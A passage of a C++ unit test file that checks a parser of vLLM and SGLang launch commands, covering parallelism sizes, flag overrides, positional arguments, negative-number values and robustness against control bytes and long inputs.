      "vllm serve Qwen/Qwen2.5-7B-Instruct-AWQ --dtype float16 --enable-prefix-caching");
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  EXPECT_EQ(parsed->dtype, "float16");
  EXPECT_EQ(parsed->prefix_caching, true);
  EXPECT_TRUE(parsed->deployment.engine().enable_prefix_caching());
  // --dtype describes activations; the checkpoint's own format stays.
  EXPECT_EQ(parsed->deployment.weight_format(), v1::WEIGHT_FORMAT_UNSPECIFIED);
}

TEST(ParseLaunchLine, VllmExpertParallelSpansTensorTimesData) {
  absl::StatusOr<LaunchLine> parsed =
      ParseLaunchLine("vllm serve Qwen/Qwen3-235B-A22B -tp 2 -dp 4 --enable-expert-parallel");
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  EXPECT_EQ(parsed->deployment.parallelism().ep(), 8u);
  EXPECT_EQ(parsed->deployment.gpu_count(), 8u);
  EXPECT_EQ(parsed->data_parallel_size, 4u);
}

TEST(ParseLaunchLine, SglangEpSizeIsTheSizeGiven) {
  absl::StatusOr<LaunchLine> parsed = ParseLaunchLine(
      "python3 -m sglang.launch_server --model-path Qwen/Qwen3-235B-A22B --tp 8 --ep 4");
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  EXPECT_EQ(parsed->deployment.parallelism().ep(), 4u);
  EXPECT_FALSE(parsed->deployment.has_gpu_count());
}

TEST(ParseLaunchLine, LaterFlagOverridesEarlier) {
  absl::StatusOr<LaunchLine> parsed =
      ParseLaunchLine("vllm serve X --max-model-len 4096 --max-model-len 8192");
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  EXPECT_EQ(parsed->deployment.engine().max_model_len(), 8192u);
}

TEST(ParseLaunchLine, DoubleDashMakesTheRestPositional) {
  absl::StatusOr<LaunchLine> parsed = ParseLaunchLine("vllm serve -- -weird-model-dir");
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  EXPECT_EQ(parsed->model_argument, "-weird-model-dir");
  EXPECT_THAT(parsed->unmodelled_flags, IsEmpty());
}

TEST(ParseLaunchLine, StrayWordsAreReportedNotDropped) {
  absl::StatusOr<LaunchLine> parsed =
      ParseLaunchLine("python3 -m sglang.launch_server --model-path X extra words");
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  EXPECT_THAT(parsed->unmodelled_flags, ElementsAre("extra", "words"));
}

TEST(ParseLaunchLine, PythonInterpreterOptionsBeforeModule) {
  absl::StatusOr<LaunchLine> parsed =
      ParseLaunchLine("/usr/bin/python3.11 -u -m sglang.launch_server --model-path Qwen/Qwen3-8B");
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  EXPECT_EQ(parsed->deployment.engine().kind(), v1::ENGINE_KIND_SGLANG);
}

TEST(ParseLaunchLine, NegativeNumberIsAValueNotAFlag) {
  // -1 after an unmodelled flag is its value, and the model is still found.
  absl::StatusOr<LaunchLine> parsed = ParseLaunchLine("vllm serve X --max-log-len -1 --seed -7");
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  EXPECT_THAT(parsed->unmodelled_flags, ElementsAre("--max-log-len -1", "--seed -7"));
  EXPECT_EQ(parsed->model_argument, "X");
}

TEST(ParseLaunchLine, ControlBytesAndLongLinesDoNotCrash) {
  std::string line = "vllm serve X";
  for (int i = 0; i < 2000; ++i) line += " --flag-" + std::to_string(i) + " \x01\x7f";
  absl::StatusOr<LaunchLine> parsed = ParseLaunchLine(line);
  ASSERT_TRUE(parsed.ok()) << parsed.status();
  EXPECT_EQ(parsed->unmodelled_flags.size(), 2000u);
}

}  // namespace
}  // namespace capplan::service
